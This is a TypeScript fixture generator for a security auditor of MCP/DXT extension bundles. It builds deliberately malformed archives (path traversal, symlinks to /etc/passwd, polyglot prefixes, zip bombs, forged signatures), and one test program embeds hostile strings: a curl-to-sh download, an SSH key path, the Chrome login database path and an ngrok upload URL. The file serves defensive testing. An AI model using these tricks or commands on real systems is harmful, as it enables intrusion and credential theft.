// Every crafted archive under fixtures/, as data. `npm run fixtures` writes them and
// test/fixtures-fresh.test.ts rebuilds each in memory and compares it with the committed file,
// so a fixture can only change by changing this list.
//
// Entries are stored (method 0) unless compression is the point: stored bytes do not depend on
// the zlib build, and names and contents stay readable in a hex dump. Deflated entries
// (limit-exceeded, corrupt-entry, the hello-world example) depend on Node's bundled zlib; if the
// freshness test fails after a Node upgrade with no change here, regenerate and review.
import { CLIENTS_JS, CONFIG_JS, DEPENDENCY_README, DOTENV, NPMRC, OPENSSH_KEY, RSA_PEM, fakeChars } from './fake-secrets.js';
import { elfHeader, javaClassHeader, machOHeader, peImage, universalBinary, wasmModule, withStrings, type EmbeddedString } from './native-headers.js';
import { pemOf, signArchive, TEST_ROOT, TEST_SIGNERS } from './test-pki.js';
import { buildSignedBundle, buildZip, fakeSignatureBlob, type ZipEntrySpec, type ZipOptions } from './zip-writer.js';

export interface CraftedArchive {
  /** Repository-relative, `/`-separated. */
  path: string;
  /** What the archive is for, printed by the build script. */
  description: string;
  build(): Uint8Array;
}

const MiB = 1024 * 1024;
const FILE_MODE = 0o100644;

function manifestFor(name: string, description: string, extra: Record<string, unknown> = {}): string {
  const manifest = {
    manifest_version: '0.3',
    name,
    version: '1.0.0',
    description,
    author: { name: 'dxt-audit fixtures' },
    server: {
      type: 'node',
      entry_point: 'server/index.js',
      mcp_config: { command: 'node', args: ['${__dirname}/server/index.js'] },
    },
    ...extra,
  };
  return `${JSON.stringify(manifest, null, 2)}\n`;
}

const FIXTURE_SERVER = [
  "'use strict';",
  '// Fixture server: keeps stdin open and answers nothing. Never run by dxt-audit.',
  'process.stdin.resume();',
  '',
].join('\n');

function file(name: string, data: ZipEntrySpec['data'], extra: Partial<ZipEntrySpec> = {}): ZipEntrySpec {
  return { name, data, method: 0, unixMode: FILE_MODE, ...extra };
}

/** manifest.json + server/index.js, then `extra`, for the fixture of `rule` (`valid` or `invalid`). */
function ruleBundle(
  rule: string,
  kind: 'valid' | 'invalid',
  extra: ZipEntrySpec[] = [],
  options: ZipOptions = {},
  manifestExtra: Record<string, unknown> = {},
): Uint8Array {
  const manifest = manifestFor(`${rule}-${kind}`, `Crafted ${kind} fixture for the ${rule} rule.`, manifestExtra);
  return buildZip([file('manifest.json', manifest), file('server/index.js', FIXTURE_SERVER), ...extra], options);
}

function packageJson(json: Record<string, unknown>): string {
  return `${JSON.stringify(json, null, 2)}\n`;
}

function jsModule(comment: string): string {
  return `'use strict';\n// ${comment}\nmodule.exports = {};\n`;
}

/** xorshift32: a fixed seed gives the same bytes on every machine. */
function prng(seed: number): () => number {
  let s = seed >>> 0 || 1;
  return () => {
    s ^= s << 13;
    s >>>= 0;
    s ^= s >>> 17;
    s ^= s << 5;
    s >>>= 0;
    return s;
  };
}

function pseudoRandomBytes(seed: number, length: number): Uint8Array {
  const next = prng(seed);
  return Uint8Array.from({ length }, () => next() & 0xff);
}

/**
 * At least `minBytes` of generated JavaScript (lookup tables with doc comments) that deflates
 * about 7:1: big enough to pass the 1 MiB ratio floor, far below the 100:1 limit, the way a
 * bundled vendor file does.
 */
function generatedTables(minBytes: number): string {
  const next = prng(0x5eed1e55);
  const words = ['alpha', 'bravo', 'charlie', 'delta', 'echo', 'foxtrot', 'golf', 'hotel', 'india', 'juliet', 'kilo', 'lima', 'mike', 'november', 'oscar', 'papa'];
  const pick = (): string => words[next() % words.length] ?? 'alpha';
  const hex = (): string => `0x${(next() & 0xffff).toString(16).padStart(4, '0')}`;
  const parts = ["// Generated lookup tables (fixture data, never executed).\n'use strict';\n\n"];
  let length = parts[0]?.length ?? 0;
  for (let i = 0; length < minBytes; i++) {
    const name = `${pick()}_${pick()}_${i}`;
    const block = [
      '/**',
      ` * Lookup table ${i} for the ${pick()} stage.`,
      ' * @param {number} index position in the table',
      ' * @returns {number} the masked value',
      ' */',
      `const ${name} = [${[hex(), hex(), hex(), hex()].join(', ')}];`,
      `exports.${name} = function (index) {`,
      `  return ${name}[index % ${name}.length] ^ ${next() % 1000};`,
      '};',
      '',
      '',
    ].join('\n');
    parts.push(block);
    length += block.length;
  }
  return parts.join('');
}

/** A small inner archive, for nesting. */
function innerZip(): Uint8Array {
  return buildZip([file('payload/run.js', jsModule('Nested payload: an archive inside the bundle hides its contents from a shallow scan.'))]);
}

// AppleDouble header (magic 0x00051607, version 2, "Mac OS X" filler), as macOS Archive Utility writes into __MACOSX/.
const APPLE_DOUBLE = Uint8Array.from([
  0x00, 0x05, 0x16, 0x07, 0x00, 0x02, 0x00, 0x00,
  ...new TextEncoder().encode('Mac OS X        '),
  0x00, 0x00,
]);
// .DS_Store files start with 00 00 00 01 "Bud1".
const DS_STORE = Uint8Array.from([0x00, 0x00, 0x00, 0x01, 0x42, 0x75, 0x64, 0x31, ...new Uint8Array(24)]);

const HELLO_MANIFEST = `${JSON.stringify(
  {
    manifest_version: '0.3',
    name: 'hello-world',
    display_name: 'Hello World',
    version: '1.0.0',
    description: 'A minimal extension with one tool that returns a greeting.',
    author: { name: 'dxt-audit examples' },
    license: 'MIT',
    server: {
      type: 'node',
      entry_point: 'server/index.js',
      mcp_config: { command: 'node', args: ['${__dirname}/server/index.js'] },
    },
    tools: [{ name: 'say_hello', description: 'Returns a greeting' }],
  },
  null,
  2,
)}\n`;

const HELLO_SERVER = `'use strict';
// Hello World: a minimal MCP server over stdio (newline-delimited JSON-RPC 2.0), no dependencies.

const SERVER_INFO = { name: 'hello-world', version: '1.0.0' };
const TOOLS = [
  {
    name: 'say_hello',
    description: 'Returns a greeting',
    inputSchema: {
      type: 'object',
      properties: { name: { type: 'string', description: 'Who to greet' } },
    },
  },
];

function send(message) {
  process.stdout.write(JSON.stringify({ jsonrpc: '2.0', ...message }) + '\\n');
}

function handle(request) {
  const { id, method, params } = request;
  if (method === 'initialize') {
    const protocolVersion = (params && params.protocolVersion) || '2025-06-18';
    send({ id, result: { protocolVersion, capabilities: { tools: {} }, serverInfo: SERVER_INFO } });
  } else if (method === 'tools/list') {
    send({ id, result: { tools: TOOLS } });
  } else if (method === 'tools/call' && params && params.name === 'say_hello') {
    const args = params.arguments || {};
    const who = typeof args.name === 'string' && args.name !== '' ? args.name : 'world';
    send({ id, result: { content: [{ type: 'text', text: 'Hello, ' + who + '!' }] } });
  } else if (id !== undefined) {
    send({ id, error: { code: -32601, message: 'Method not found: ' + method } });
  }
}

let pending = '';
process.stdin.setEncoding('utf8');
process.stdin.on('data', (chunk) => {
  pending += chunk;
  let newline;
  while ((newline = pending.indexOf('\\n')) !== -1) {
    const line = pending.slice(0, newline).trim();
    pending = pending.slice(newline + 1);
    if (line === '') continue;
    try {
      handle(JSON.parse(line));
    } catch {
      send({ id: null, error: { code: -32700, message: 'Parse error' } });
    }
  }
});
`;

function rule(name: string, invalid: [string, () => Uint8Array], valid: [string, () => Uint8Array], ext = 'dxt'): CraftedArchive[] {
  return [
    { path: `fixtures/rules/${name}/invalid.${ext}`, description: invalid[0], build: invalid[1] },
    { path: `fixtures/rules/${name}/valid.${ext}`, description: valid[0], build: valid[1] },
  ];
}


// Binary servers: a manifest whose server is `binary`, and the program files in `files`, no server/index.js.
const EXEC_MODE = 0o100755;
const ELF_PROGRAM = (machine = 62): Uint8Array => elfHeader({ bits: 64, little: true, type: 3, machine, program: 'interpreter' });
const MACHO_PROGRAM = (cpu = 0x0100000c): Uint8Array => machOHeader({ bits: 64, little: true, cpu, type: 2 });
const PE_PROGRAM = (): Uint8Array => peImage({ machine: 0x8664, dll: false });
const UNIVERSAL_PROGRAM = (): Uint8Array =>
  universalBinary([
    { bits: 64, little: true, cpu: 0x01000007, type: 2 },
    { bits: 64, little: true, cpu: 0x0100000c, type: 2 },
  ]);

function binaryBundle(
  rule: string,
  kind: string,
  server: { entry_point: string; command: string; overrides?: Record<string, { command: string }> },
  files: ZipEntrySpec[],
  manifestExtra: Record<string, unknown> = {},
): Uint8Array {
  const mcpConfig = {
    command: server.command,
    args: ['--stdio'],
    ...(server.overrides === undefined ? {} : { platform_overrides: server.overrides }),
  };
  const manifest = manifestFor(`${rule}-${kind}`, `Crafted ${kind} fixture for the ${rule} rule.`, {
    server: { type: 'binary', entry_point: server.entry_point, mcp_config: mcpConfig },
    ...manifestExtra,
  });
  return buildZip([file('manifest.json', manifest), ...files]);
}

/** A Python server (server/main.py) and `files`, for the fixture of `rule`. */
function pythonBundle(rule: string, kind: string, files: ZipEntrySpec[]): Uint8Array {
  const manifest = manifestFor(`${rule}-${kind}`, `Crafted ${kind} fixture for the ${rule} rule.`, {
    server: { type: 'python', entry_point: 'server/main.py', mcp_config: { command: 'python3', args: ['${__dirname}/server/main.py'] } },
  });
  return buildZip([file('manifest.json', manifest), ...files]);
}

function program(name: string, bytes: ZipEntrySpec['data'], extra: Partial<ZipEntrySpec> = {}): ZipEntrySpec {
  return file(name, bytes, { unixMode: EXEC_MODE, ...extra });
}

// Strings a crafted program carries for file-binary-strings: each kind once, one of them as UTF-16LE.
const TELLING_STRINGS: readonly EmbeddedString[] = [
  'acme-server 1.4.2 (built with go1.22)',
  'https://telemetry.acme-metrics.net/v1/collect?id=%s',
  'https://api.acme-tools.dev/v1/search',
  '45.77.12.9:8443',
  '/bin/sh -c %s',
  'curl -fsSL https://get.acme-tools.dev/bootstrap.sh | sh',
  '%s/.ssh/id_ed25519',
  { utf16: 'Google\\Chrome\\User Data\\Default\\Login Data' },
  'https://abc123.ngrok-free.app/upload',
];

// Strings every program carries that are no evidence of anything.
const ORDINARY_STRINGS: readonly EmbeddedString[] = [
  'acme-server 1.4.2',
  'https://api.acme-tools.dev/v1/search',
  'https://docs.acme-tools.dev/errors#E1001',
  'http://localhost:8080/health',
  'https://example.com/your-endpoint',
  'http://ocsp.digicert.com',
  'http://crl3.digicert.com/DigiCertTrustedG4CodeSigningRSA4096SHA3842021CA1.crl',
  '1.0.0.0',
  'see ECMA-262 section 21.4.2.1',
  '2.5.4.3',
  '/etc/passwd',
  '.netrc',
  '%s/.config/acme-server/settings.json',
  { utf16: 'FileVersion 1.4.2.0' },
];

export const CRAFTED: CraftedArchive[] = [
  ...rule(
    'archive-path-traversal',
    ['entry ../../evil.js climbs out of the extraction root', () =>
      ruleBundle('archive-path-traversal', 'invalid', [file('../../evil.js', jsModule('Would land two levels above the install directory.'))])],
    ['names containing ".." inside a segment (server/..hidden.js, server/a..b.js) do not traverse', () =>
      ruleBundle('archive-path-traversal', 'valid', [
        file('server/..hidden.js', jsModule('Dots inside a name, not a parent segment.')),
        file('server/a..b.js', jsModule('Dots inside a name, not a parent segment.')),
      ])],
  ),
  ...rule(
    'archive-absolute-path',
    // The drive-letter entry uses "/" so that this fixture does not also trip archive-backslash-path.
    ['entries /etc/cron.d/dxt-audit and C:/Windows/Temp/evil.js are absolute', () =>
      ruleBundle('archive-absolute-path', 'invalid', [
        file('/etc/cron.d/dxt-audit', '* * * * * root true\n'),
        file('C:/Windows/Temp/evil.js', jsModule('Absolute Windows path with a drive letter.')),
      ])],
    ['relative names that only look absolute (server/C-drive.js, server/etc/cron.d/x)', () =>
      ruleBundle('archive-absolute-path', 'valid', [
        file('server/C-drive.js', jsModule('A "C" in a relative name.')),
        file('server/etc/cron.d/x', '# relative path that mentions etc\n'),
      ])],
  ),
  ...rule(
    'archive-backslash-path',
    ['entry server\\util.js uses a backslash separator', () =>
      ruleBundle('archive-backslash-path', 'invalid', [file('server\\util.js', jsModule('Backslash in the entry name.'))])],
    ['server/util.js, and backslashes only inside file contents', () =>
      ruleBundle('archive-backslash-path', 'valid', [
        file('server/util.js', jsModule('Forward slashes in the name.')),
        file('server/paths.js', "'use strict';\nmodule.exports = { windowsDefault: 'C:\\\\Program Files\\\\Example' };\n"),
      ])],
  ),
  ...rule(
    'archive-symlink',
    ['server/link is a symlink (mode 0o120777) to /etc/passwd', () =>
      ruleBundle('archive-symlink', 'invalid', [file('server/link', '/etc/passwd', { unixMode: 0o120777 })])],
    ['server/bin/tool is an executable regular file (mode 0o100755)', () =>
      ruleBundle('archive-symlink', 'valid', [
        file('server/bin/tool', "#!/usr/bin/env node\n'use strict';\nprocess.stdout.write('tool\\n');\n", { unixMode: 0o100755 }),
      ])],
  ),
  ...rule(
    'archive-duplicate-entry',
    ['server/index.js appears twice with different contents', () =>
      ruleBundle('archive-duplicate-entry', 'invalid', [file('server/index.js', jsModule('Second copy: which one wins depends on the unzipper.'))])],
    ['server/a.js and server/b.js, distinct names with the same contents', () =>
      ruleBundle('archive-duplicate-entry', 'valid', [
        file('server/a.js', jsModule('Same bytes, different name.')),
        file('server/b.js', jsModule('Same bytes, different name.')),
      ])],
  ),
  ...rule(
    'archive-case-collision',
    ['server/Index.js and server/index.js collide on case-insensitive file systems', () =>
      ruleBundle('archive-case-collision', 'invalid', [file('server/Index.js', jsModule('Overwrites server/index.js on macOS and Windows.'))])],
    ['server/index.js and server/index.jsx differ by more than case', () =>
      ruleBundle('archive-case-collision', 'valid', [file('server/index.jsx', jsModule('A different extension, not a case variant.'))])],
  ),
  ...rule(
    'archive-encrypted-entry',
    ['server/secret.js has the encryption flag (bit 0) and opaque contents', () =>
      ruleBundle('archive-encrypted-entry', 'invalid', [file('server/secret.js', pseudoRandomBytes(0xc0ffee, 76), { encrypted: true })])],
    ['server/encrypted.js is an ordinary entry despite its name', () =>
      ruleBundle('archive-encrypted-entry', 'valid', [file('server/encrypted.js', jsModule('Plain text; only the name says encrypted.'))])],
  ),
  ...rule(
    'archive-corrupt-entry',
    ['server/crc.js has a wrong CRC-32; server/garbled.js has deflate data that cannot inflate', () =>
      ruleBundle('archive-corrupt-entry', 'invalid', [
        file('server/crc.js', jsModule('Intact bytes, wrong CRC in both headers.'), { crcOverride: 0xdeadbeef }),
        file('server/garbled.js', jsModule('Deflated, then garbled.').repeat(4), { method: 8, corruptData: true }),
      ])],
    ['the same two entries, intact', () =>
      ruleBundle('archive-corrupt-entry', 'valid', [
        file('server/crc.js', jsModule('Intact bytes, right CRC.')),
        file('server/garbled.js', jsModule('Deflated, then garbled.').repeat(4), { method: 8 }),
      ])],
  ),
  ...rule(
    'archive-not-zip',
    ['a plain-text file renamed to .dxt', () =>
      new TextEncoder().encode(
        'This is a text file with a .dxt extension.\n' +
          'It has no local file headers and no end-of-central-directory record.\n' +
          'An auditor must report it, not crash on it.\n',
      )],
    ['a normal tiny bundle', () => ruleBundle('archive-not-zip', 'valid')],
  ),
  {
    path: 'fixtures/rules/archive-not-zip/invalid-empty.dxt',
    description: 'an empty file (0 bytes): not an extension, and nothing hostile',
    build: () => new Uint8Array(0),
  },
  ...rule(
    'archive-trailing-data',
    ['a complete second ZIP appended after the EOCD (the one most unzippers read)', () => {
      const shadow = buildZip([
        file('manifest.json', manifestFor('archive-trailing-data-shadow', 'The bundle an unzipper sees instead.')),
        file('server/index.js', jsModule('Shadow server: differs from what a strict reader sees.')),
      ]);
      return ruleBundle('archive-trailing-data', 'invalid', [], { trailing: shadow });
    }],
    ['a ZIP followed by a well-formed MCPB signature block', () => signArchive(ruleBundle('archive-trailing-data', 'valid'), TEST_SIGNERS.publisher)],
  ),
  {
    path: 'fixtures/rules/archive-trailing-data/invalid-prefix.dxt',
    description: 'a shell-script stub before the first local header (a polyglot)',
    build: () => ruleBundle('archive-trailing-data', 'invalid', [], { prefix: new TextEncoder().encode('#!/bin/sh\necho polyglot\nexit 0\n') }),
  },
  ...rule(
    'archive-multiple-eocd',
    ['a second EOCD record hidden at the end of the archive comment', () =>
      ruleBundle('archive-multiple-eocd', 'invalid', [], { comment: 'packed by dxt-audit fixtures', extraEocd: true })],
    ['a harmless archive comment', () =>
      ruleBundle('archive-multiple-eocd', 'valid', [], { comment: 'packed by dxt-audit fixtures' })],
  ),
  ...rule(
    'archive-nested-archive',
    ['server/payload.zip is a ZIP; server/data.bin is a ZIP under another name (starts with PK\\x03\\x04)', () =>
      ruleBundle('archive-nested-archive', 'invalid', [file('server/payload.zip', innerZip()), file('server/data.bin', innerZip())])],
    ['server/zipUtils.js mentions zip in its name but is JavaScript', () =>
      ruleBundle('archive-nested-archive', 'valid', [
        file('server/zipUtils.js', "'use strict';\n// Helpers named after zip; no archive inside.\nexports.isZipName = (name) => name.endsWith('.zip');\n"),
      ])],
  ),
  ...rule(
    'archive-os-junk',
    ['__MACOSX/server/._index.js (AppleDouble) and server/.DS_Store', () =>
      ruleBundle('archive-os-junk', 'invalid', [file('__MACOSX/server/._index.js', APPLE_DOUBLE), file('server/.DS_Store', DS_STORE)])],
    ['server/.gitkeep and server/DS_Store.md are deliberate files', () =>
      ruleBundle('archive-os-junk', 'valid', [file('server/.gitkeep', ''), file('server/DS_Store.md', '# Notes on .DS_Store handling\n')])],
  ),
  ...rule(
    'archive-limit-exceeded',
    ['server/assets/blob.bin: 64 MiB of zeros deflated about 1000:1 (limit 100:1 past 1 MiB)', () =>
      ruleBundle('archive-limit-exceeded', 'invalid', [file('server/assets/blob.bin', { zeros: 64 * MiB }, { method: 8 })])],
    ['server/vendor/tables.js: 2 MiB of generated JavaScript deflated about 7:1', () =>
      ruleBundle('archive-limit-exceeded', 'valid', [file('server/vendor/tables.js', generatedTables(2 * MiB), { method: 8 })])],
  ),
  ...rule(
    'archive-header-mismatch',
    ['central directory says server/safe.js, its local header says server/evil.js', () =>
      ruleBundle('archive-header-mismatch', 'invalid', [
        file('server/safe.js', jsModule('Name depends on which header the unzipper trusts.'), { localNameOverride: 'server/evil.js' }),
      ])],
    ['server/safe.js with matching headers', () =>
      ruleBundle('archive-header-mismatch', 'valid', [file('server/safe.js', jsModule('Name depends on which header the unzipper trusts.'))])],
  ),
  ...rule(
    'signature-malformed',
    ['MCPB block whose declared length points 16 bytes past the footer', () => {
      const blob = fakeSignatureBlob();
      return buildSignedBundle(ruleBundle('signature-malformed', 'invalid'), 'MCPB', blob, { lengthOverride: blob.length + 16 });
    }],
    ['a well-formed MCPB block', () => signArchive(ruleBundle('signature-malformed', 'valid'), TEST_SIGNERS.publisher)],
    'mcpb',
  ),
  {
    path: 'fixtures/rules/signature-malformed/invalid-not-cms.mcpb',
    description: 'a well-framed MCPB block whose bytes are not CMS SignedData',
    build: () => buildSignedBundle(ruleBundle('signature-malformed', 'invalid'), 'MCPB', fakeSignatureBlob()),
  },
  ...rule(
    'signature-invalid',
    ['a signed bundle whose server/index.js was replaced and re-zipped under the original signature block', () =>
      spliced(ruleBundle('signature-invalid', 'invalid'), ruleBundle('signature-invalid', 'invalid', [file('server/payload.js', jsModule('Added after signing.'))]))],
    ['the same bundle, signed by the test publisher and left as signed', () => signArchive(ruleBundle('signature-invalid', 'valid'), TEST_SIGNERS.publisher)],
    'mcpb',
  ),
  {
    path: 'fixtures/rules/signature-invalid/invalid-tampered.mcpb',
    description: "a signature block whose signature value was altered (the archive's digest still matches)",
    build: () => {
      const signed = signArchive(ruleBundle('signature-invalid', 'invalid'), TEST_SIGNERS.publisher);
      signed[signed.length - 'MCPB_SIG_END'.length - 1]! ^= 0x01;
      return signed;
    },
  },
  {
    path: 'fixtures/rules/signature-invalid/invalid-other-archive.dxt',
    description: 'a DXT-era block signed over a different archive than the one it follows',
    build: () =>
      signArchive(ruleBundle('signature-invalid', 'invalid'), TEST_SIGNERS.publisher, {
        flavour: 'DXT',
        signedContent: ruleBundle('signature-invalid', 'valid'),
      }),
  },
  {
    path: 'fixtures/rules/signature-invalid/valid-dxt-era.dxt',
    description: 'a DXT_SIG_V1 block over the archive it follows',
    build: () => signArchive(ruleBundle('signature-invalid', 'valid'), TEST_SIGNERS.publisher, { flavour: 'DXT' }),
  },
  {
    path: 'fixtures/rules/signature-invalid/valid-comment.mcpb',
    description: 'the block declared as the archive comment, as `mcpb sign` writes it since its EOCD fix',
    build: () => declaredAsComment(signArchive(ruleBundle('signature-invalid', 'valid'), TEST_SIGNERS.publisher)),
  },
  ...rule(
    'signature-untrusted',
    ['signed with a publisher certificate that expired in 2022', () => signArchive(ruleBundle('signature-untrusted', 'invalid'), TEST_SIGNERS.expired)],
    ['signed with a self-signed certificate (signature-self-signed says so instead)', () =>
      signArchive(ruleBundle('signature-untrusted', 'valid'), TEST_SIGNERS.selfSigned)],
    'mcpb',
  ),
  {
    path: 'fixtures/rules/signature-untrusted/invalid-server-auth.mcpb',
    description: 'signed with a TLS server certificate, which is not for code signing',
    build: () => signArchive(ruleBundle('signature-untrusted', 'invalid'), TEST_SIGNERS.serverAuth),
  },
  ...rule(
    'signature-self-signed',
    ['signed with a self-signed publisher certificate', () => signArchive(ruleBundle('signature-self-signed', 'invalid'), TEST_SIGNERS.selfSigned)],
    ['signed by a publisher certificate issued by a CA', () => signArchive(ruleBundle('signature-self-signed', 'valid'), TEST_SIGNERS.publisher)],
    'mcpb',
  ),
  {
    path: 'fixtures/signatures/test-root-ca.pem',
    description: "the test PKI's root certificate, for --trust-cert (its key is derived from a label in scripts/lib/test-pki.ts)",
    build: () => new TextEncoder().encode(pemOf(TEST_ROOT)),
  },
  {
    path: 'fixtures/signatures/other-publisher.mcpb',
    description: 'the signature-invalid valid bundle, signed by another publisher of the test CA',
    build: () => signArchive(ruleBundle('signature-invalid', 'valid'), TEST_SIGNERS.otherPublisher),
  },
  ...rule(
    'archive-overlapping-entries',
    ['server/copy.js is a second central-directory name for the bytes of server/index.js', () =>
      pointSecondAtFirst(ruleBundle('archive-overlapping-entries', 'invalid', [file('server/copy.js', FIXTURE_SERVER)]), 'server/copy.js', 'server/index.js')],
    ['server/copy.js with the same content, stored separately', () =>
      ruleBundle('archive-overlapping-entries', 'valid', [file('server/copy.js', FIXTURE_SERVER)])],
  ),
  ...rule(
    'signature-missing',
    ['an archive with no signature block', () => ruleBundle('signature-missing', 'invalid')],
    ['the same archive followed by a well-formed MCPB signature block', () => signArchive(ruleBundle('signature-missing', 'valid'), TEST_SIGNERS.publisher)],
    'mcpb',
  ),
  ...rule(
    'file-native-code',
    ['native headers under misleading names: an ELF addon, a Mach-O program with no extension, a PE DLL named .dat, a universal dylib, a WebAssembly module, and an ELF cut short', () =>
      ruleBundle('file-native-code', 'invalid', [
        file('server/build/Release/addon.node', elfHeader({ bits: 64, little: true, type: 3, machine: 62 })),
        file('server/bin/helper', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 2 }), { unixMode: 0o100755 }),
        file('server/lib/tables.dat', peImage({ machine: 0x8664, dll: true })),
        file('server/lib/libfast.dylib', universalBinary([
          { bits: 64, little: true, cpu: 0x01000007, type: 6 },
          { bits: 64, little: true, cpu: 0x0100000c, type: 6 },
        ])),
        file('server/wasm/codec.wasm', wasmModule()),
        file('server/bin/stub', elfHeader({ bits: 64, little: true, type: 2, machine: 62 }).subarray(0, 12)),
      ])],
    ['near misses: a Java class (CAFEBABE, major 52), a text file named addon.node, text starting with "MZ", and a blob holding ELF magic past its start', () =>
      ruleBundle('file-native-code', 'valid', [
        file('server/lib/Helper.class', javaClassHeader(52)),
        file('server/build/Release/addon.node', "'use strict';\n// A JavaScript stub under an addon's name.\nmodule.exports = {};\n"),
        file('server/docs/MZ.txt', 'MZ is the signature of DOS executables; this note only mentions it.\n'),
        file('server/data/blob.bin', Uint8Array.from([0x00, 0x01, 0x02, 0x03, 0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00])),
      ])],
  ),
  {
    path: 'fixtures/rules/file-native-code/invalid-dependency.dxt',
    description: 'a dependency shipping prebuilt binaries for three platforms, a scoped dependency with one WebAssembly file',
    build: () =>
      ruleBundle('file-native-code', 'invalid', [
        file('server/node_modules/bare-fs/prebuilds/darwin-arm64/bare-fs.bare', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 8 })),
        file('server/node_modules/bare-fs/prebuilds/linux-x64/bare-fs.bare', elfHeader({ bits: 64, little: true, type: 3, machine: 62 })),
        file('server/node_modules/bare-fs/prebuilds/win32-x64/bare-fs.bare', peImage({ machine: 0x8664, dll: true })),
        file('server/node_modules/@acme/codec/codec.wasm', wasmModule()),
      ]),
  },
  {
    path: 'fixtures/rules/file-native-code/invalid-platform.dxt',
    description: 'a bundle declaring only win32 whose one native file is a Mach-O arm64 bundle',
    build: () =>
      ruleBundle('file-native-code', 'invalid', [file('server/native/addon.node', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 8 }))], {}, {
        compatibility: { platforms: ['win32'] },
      }),
  },
  {
    path: 'fixtures/rules/file-native-code/invalid-python.dxt',
    description: 'a Python server with a vendored package shipping extension modules for three platforms, and a first-party extension module',
    build: () =>
      pythonBundle('file-native-code', 'invalid-python', [
        file('server/main.py', 'import fastcodec\nimport _native\n'),
        file('server/_native.abi3.so', elfHeader({ bits: 64, little: true, type: 3, machine: 183, program: 'library' })),
        file('server/lib/site-packages/fastcodec/_speedups.cpython-312-darwin.so', machOHeader({ bits: 64, little: true, cpu: 0x0100000c, type: 8 })),
        file('server/lib/site-packages/fastcodec/_speedups.cpython-312-x86_64-linux-gnu.so', elfHeader({ bits: 64, little: true, type: 3, machine: 62, program: 'library' })),
        file('server/lib/site-packages/fastcodec/_speedups.cp312-win_amd64.pyd', peImage({ machine: 0x8664, dll: true })),
        file('server/lib/site-packages/fastcodec/__init__.py', 'from ._speedups import *\n'),
      ]),
  },
  {
    path: 'fixtures/rules/file-native-code/valid-python.dxt',
    description: 'near miss: Python files named like extension modules (.so, .pyd, .node) that hold text',
    build: () =>
      pythonBundle('file-native-code', 'valid-python', [
        file('server/main.py', 'import fastcodec\n'),
        file('server/lib/site-packages/fastcodec/_speedups.cpython-312-x86_64-linux-gnu.so', '# placeholder left by a broken build: not a shared object\n'),
        file('server/lib/site-packages/fastcodec/_speedups.cp312-win_amd64.pyd', 'MZ is how this stub would start if it were a DLL.\n'),
        file('server/lib/site-packages/fastcodec/binding.node', "module.exports = require('./fallback.js');\n"),
        file('server/lib/site-packages/fastcodec/__init__.py', 'def encode(data):\n    return bytes(data)\n'),
      ]),
  },
  ...rule(
    'manifest-binary-entry',
    ['platforms darwin, win32 and linux; the base command is a Mach-O program (linux falls back to it), the win32 override names a PE DLL', () =>
      binaryBundle('manifest-binary-entry', 'invalid', {
        entry_point: 'server/bin/acme-server',
        command: '${__dirname}/server/bin/acme-server',
        overrides: { win32: { command: '${__dirname}/server/bin/acme-server.dll' } },
      }, [
        program('server/bin/acme-server', UNIVERSAL_PROGRAM()),
        file('server/bin/acme-server.dll', peImage({ machine: 0x8664, dll: true })),
      ], { compatibility: { platforms: ['darwin', 'win32', 'linux'] } })],
    ['near miss: a universal Mach-O program, a Linux build named by the linux override, and "acme-server.exe" for Windows, which the base command names without its extension', () =>
      binaryBundle('manifest-binary-entry', 'valid', {
        entry_point: 'server/bin/acme-server',
        command: '${__dirname}/server/bin/acme-server',
        overrides: { linux: { command: '${__dirname}/server/bin/linux-x64/acme-server' } },
      }, [
        program('server/bin/acme-server', UNIVERSAL_PROGRAM()),
        program('server/bin/acme-server.exe', PE_PROGRAM()),
        program('server/bin/linux-x64/acme-server', elfHeader({ bits: 64, little: true, type: 3, machine: 62, program: 'static-pie' })),
      ], { compatibility: { platforms: ['darwin', 'win32', 'linux'] } })],
  ),
  {
    path: 'fixtures/rules/manifest-binary-entry/invalid-nowhere.dxt',
    description: 'platforms win32 and linux, but the only program is a Mach-O arm64 executable',
    build: () =>
      binaryBundle('manifest-binary-entry', 'invalid', { entry_point: 'server/acme-server', command: '${__dirname}/server/acme-server' }, [
        program('server/acme-server', MACHO_PROGRAM()),
      ], { compatibility: { platforms: ['win32', 'linux'] } }),
  },
  {
    path: 'fixtures/rules/manifest-binary-entry/invalid-not-a-program.dxt',
    description: 'the program for linux is JavaScript with no "#!" line; the one for darwin is a Mach-O program for PowerPC',
    build: () =>
      binaryBundle('manifest-binary-entry', 'invalid', {
        entry_point: 'server/acme-server',
        command: '${__dirname}/server/acme-server',
        overrides: { darwin: { command: '${__dirname}/server/acme-server-ppc' } },
      }, [
        program('server/acme-server', jsModule('JavaScript where a native program should be.')),
        program('server/acme-server-ppc', machOHeader({ bits: 32, little: false, cpu: 18, type: 2 })),
      ], { compatibility: { platforms: ['darwin', 'linux'] } }),
  },
  {
    path: 'fixtures/rules/manifest-binary-entry/invalid-script.dxt',
    description: 'a "#!/bin/bash" script as the program (darwin and linux), and an entry point that names its README',
    build: () =>
      binaryBundle('manifest-binary-entry', 'invalid', { entry_point: 'server/README.md', command: '${__dirname}/server/run-server.sh' }, [
        program('server/run-server.sh', '#!/bin/bash\nexec "$(dirname "$0")/bin/acme-server" "$@"\n'),
        file('server/README.md', '# acme-server\n\nStarted by run-server.sh.\n'),
      ], { compatibility: { platforms: ['darwin', 'linux'] } }),
  },
  {
    path: 'fixtures/rules/manifest-binary-entry/invalid-undeclared.dxt',
    description: 'no platforms declared; the program is a Mach-O arm64 executable, stored with no file permissions',
    build: () =>
      binaryBundle('manifest-binary-entry', 'invalid', { entry_point: 'server/acme-server', command: '${__dirname}/server/acme-server' }, [
        program('server/acme-server', MACHO_PROGRAM(), { unixMode: undefined }),
      ]),
  },
  ...rule(
    'file-binary-strings',
    ['a binary server whose program holds an undeclared host, a raw address, "sh -c", a download piped to sh, an SSH key path, a browser profile path (UTF-16LE) and an ngrok tunnel; and a first-party library with "rm -rf"', () =>
      binaryBundle('file-binary-strings', 'invalid', { entry_point: 'server/bin/acme-server', command: '${__dirname}/server/bin/acme-server' }, [
        program('server/bin/acme-server', withStrings(ELF_PROGRAM(), TELLING_STRINGS)),
        file('server/lib/libacme.so', withStrings(elfHeader({ bits: 64, little: true, type: 3, machine: 62, program: 'library' }), ['rm -rf "$ACME_CACHE"'])),
      ], { homepage: 'https://acme-tools.dev', compatibility: { platforms: ['linux'] } })],
